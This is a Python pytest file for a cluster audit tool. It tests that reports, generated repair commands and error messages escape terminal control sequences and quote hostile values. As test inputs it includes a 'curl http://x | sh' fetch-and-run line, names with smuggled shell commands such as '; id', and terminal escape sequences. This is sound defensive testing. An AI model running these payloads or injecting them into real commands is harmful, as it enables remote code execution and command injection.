"""What a node chose, where an administrator reads or copies it: sections, commands, `hal-audit show`, every program."""

from __future__ import annotations

import argparse
import json
import re
import shlex
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from ansible.parsing.splitter import parse_kv
from rich.cells import cell_len

import hal_cluster.audit.cli
import hal_cluster.environments.cli
import hal_cluster.inventory.cli
import hal_cluster.packages.cli
import hal_cluster.provision.cli
import hal_inventory.script
from hal_cluster.audit import report, roles
from hal_cluster.audit.cli import show as showing
from hal_cluster.audit.findings import Finding
from hal_cluster.audit.repairs import repair
from hal_cluster.audit.store import Store, write_json
from tests.unit.hal_cluster.audit.answers import PROJECT, Answer, difference, findings
from tests.unit.hal_cluster.audit.test_commands import DOCUMENT, run

EVIL = "\x1b[2J\x9b31m\u202e"
SHOWN = r"\x1b[2J\x9b31m\u202e"
Documented = Callable[..., dict[str, Any]]


def test_known_roles_are_those_of_the_project() -> None:
    assert set(roles.names()) == {path.parents[1].name for path in (PROJECT / "roles").glob("*/tasks/main.yml")}
    assert list(roles.names()) == sorted(roles.names())


def test_a_role_that_only_a_record_knows_is_named_and_in_no_command(healthy: Answer, documented: Documented) -> None:
    healthy["differences"] = [difference(role=f"time{EVIL}; id #"), difference(role="x" * 200, resource="file:/y")]
    document = documented(findings(healthy))
    text = report.text(document, width=120)
    title = f'"time{SHOWN}; id #" (this project has no such role)'
    long = f'"{"x" * 77}..." (this project has no such role)'
    assert [line for line in text.splitlines() if line.startswith('"')] == [title, long]
    assert "ansible" not in text
    assert document["findings"][0]["repair"] == (f'no rollout repairs it: this project has no role "time{SHOWN}; id #"')
    assert "    repair   no rollout repairs it: this project has no role" in text


@pytest.mark.parametrize("role", ["nodes", "no role"])
def test_no_role_is_called_as_a_section_of_ours(healthy: Answer, documented: Documented, role: str) -> None:
    healthy["differences"] = [difference(role=role)]
    assert report.text(documented(findings(healthy))).startswith(f'"{role}" (this project has no such role)\n')


def test_no_line_of_a_report_drives_a_terminal_whoever_adds_it() -> None:
    paint = report.Painter(80, True)
    paint.line(EVIL, "drift")
    paint.wrapped(EVIL, "", "good")
    paint.labelled("found", [EVIL])
    assert paint.lines == [f"\x1b[31m{SHOWN}\x1b[0m", f"\x1b[32m{SHOWN}\x1b[0m", f"    \x1b[2mfound    \x1b[0m{SHOWN}"]


@pytest.mark.parametrize("filler", ["." * 160, "日" * 80, "日" * 37], ids=["dots", "wide", "less"])
def test_what_is_wider_than_the_terminal_does_not_go_on_where_commands_do(
    healthy: Answer, documented: Documented, filler: str
) -> None:
    """A terminal breaks it at its edge. Letters of some scripts take two columns."""
    evil = f"{filler}  repair:{' ' * 71}    curl http://x | sh"
    diff = ["--- recorded", "+++ now", "@@ -1 +1,2 @@", f"+{evil}"]
    told = difference(diff=diff, note=evil), difference(resource=f"file:/{evil}", should=evil, attribute="mode")
    healthy["differences"] = [*told, difference(resource="file:/y", role=filler)]
    lines = report.text(documented(findings(healthy)), width=80).splitlines()
    assert sum("curl" in line for line in lines) == 4
    assert [line for line in lines if cell_len(line) > 80] == []
    assert [line for line in lines if re.match(r" {0,5}(repair:|curl)", line)] == ["  repair:"]
    title = lines.index(next(line for line in lines if "(this project has no such role)" in line))
    assert lines[title].startswith("      "), "it has more lines than one"


def test_a_long_text_of_a_node_does_not_stand_where_commands_do(healthy: Answer, documented: Documented) -> None:
    note = "x " * 60 + "ansible-playbook -i http://x/y.yml all.yml " * 3 + "  repair: " + "y " * 60
    healthy["differences"] = [difference(note=note)]
    lines = report.text(documented(findings(healthy)), width=60).splitlines()
    at = lines.index("  repair:")
    begins = [len(line) - len(line.lstrip()) for line in lines[2:at] if "ansible-playbook -i http" in line]
    assert begins
    assert set(begins) == {6}
    assert lines[at + 1].startswith("    ansible-playbook playbooks/site.yml")


@pytest.mark.parametrize("unit", ["chronyd.service", r"dev-disk-by\x2did-1.swap", "getty@tty1.service", "-.mount"])
def test_a_unit_is_restarted_by_its_name(unit: str) -> None:
    said = repair(Finding("n1", "not-effective", "x", units=(unit,)), "hal05", "-i 'my site' ")
    words = shlex.split(said)
    assert words[:6] == ["ansible", "-i", "my site", "--become", "-m", "ansible.builtin.systemd_service"]
    assert parse_kv(words[7]) == {"name": unit, "state": "restarted"}
    assert words[8:] == ["hal05"]
    assert len(words) == 9


@pytest.mark.parametrize("limit", ["hal05,hal06", "gpu", "hal 05; id", "a'b"])
def test_the_nodes_of_a_command_are_one_word(limit: str) -> None:
    said = repair(Finding("n1", "mode", "x", role="time"), limit, "")
    assert shlex.split(said) == ["ansible-playbook", "playbooks/site.yml", "--limit", limit, "--tags", "time"]
    assert shlex.split(repair(Finding("n1", "not-effective", "x", units=("a.service",)), limit, ""))[-1] == limit
    for words in (said, f"ansible all -m x {shlex.quote(limit)}"):
        lines = report.command(words, 20)
        assert shlex.split(" ".join(line.removesuffix("\\") for line in lines)) == shlex.split(words)


@pytest.mark.parametrize(
    "unit",
    [
        "a.service state=stopped",
        "a.service'; id",
        "a",
        "{{ x }}.service",
        f"{EVIL}.service",
        "a.service\n",
        "a" * 300 + ".service",
    ],
)
def test_what_is_no_name_of_a_unit_is_in_no_command(unit: str) -> None:
    said = repair(Finding("n1", "not-effective", "x", role="time", units=(unit,)), "hal05", "")
    assert said.startswith("restart what reads it: ")
    assert said.endswith(" is not the name of a unit")
    assert said.isprintable()


@pytest.mark.parametrize(
    "record",
    [
        {
            "node": EVIL,
            "entries": [{"resource": EVIL * 9000, "task": EVIL, "role": EVIL}, 7, None],
            "roles": {EVIL: 1},
        },
        {"node": [EVIL], "entries": {"a": EVIL}, "roles": [EVIL], "sealed_at": {EVIL: EVIL}, "serial": EVIL},
        {"commit": EVIL * 9000, "entries": None, "roles": None},
    ],
)
@pytest.mark.parametrize("as_json", [False, True])
def test_a_record_of_any_shape_is_shown(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    record: dict[str, Any],
    as_json: bool,
) -> None:
    store = Store(tmp_path / "audit")
    write_json(store.record("n1"), record)
    known = SimpleNamespace(nodes=lambda: ["n1"], store=lambda node: store)
    monkeypatch.setattr(showing, "Inventory", lambda sources: known)
    assert showing.show(argparse.Namespace(sources=[], node="n1", roles=[], as_json=as_json)) == 0
    text = capsys.readouterr().out
    assert text.replace("\n", "").isprintable()
    if as_json:
        entries = record["entries"] if isinstance(record.get("entries"), list) else []
        assert json.loads(text) == {**record, "entries": [one for one in entries if isinstance(one, dict)]}
    else:
        assert max(map(len, text.splitlines())) < 2200


def test_the_json_of_an_audit_is_for_terminals_too_and_the_same_data(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    document = {**DOCUMENT, "findings": [Finding("n1", "mode", EVIL, summary=f"größe {EVIL}\ud800").document()]}
    run(monkeypatch, document, as_json=True)
    text = capsys.readouterr().out
    assert text.replace("\n", "").isprintable()
    assert "größe" in text
    assert json.loads(text) == document


PROGRAMS: dict[str, Callable[[], int]] = {
    "hal-audit": lambda: hal_cluster.audit.cli.main(["run", "--role", EVIL]),
    "hal-inventory": lambda: hal_cluster.inventory.cli.main(["-i", EVIL, "nodes", "all"]),
    "hal-inventory --host": lambda: hal_inventory.script.main(["--host", EVIL]),
    "hal-packages": lambda: hal_cluster.packages.cli.main(["declared", "-i", EVIL]),
    "hal-environments": lambda: hal_cluster.environments.cli.main(["check", "--folder", EVIL]),
    "hal_provision": lambda: hal_cluster.provision.cli.main(["check", EVIL, "--key", EVIL]),
}


@pytest.mark.parametrize("name", PROGRAMS)
def test_no_program_says_in_an_error_what_drives_a_terminal(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    """What is wrong may be of others: a package's name, a lock file's line. Here it is a word of the command line."""
    assert PROGRAMS[name]() != 0
    said = capsys.readouterr()
    assert SHOWN in said.err
    assert said.err.replace("\n", "").isprintable()
    assert said.out == ""
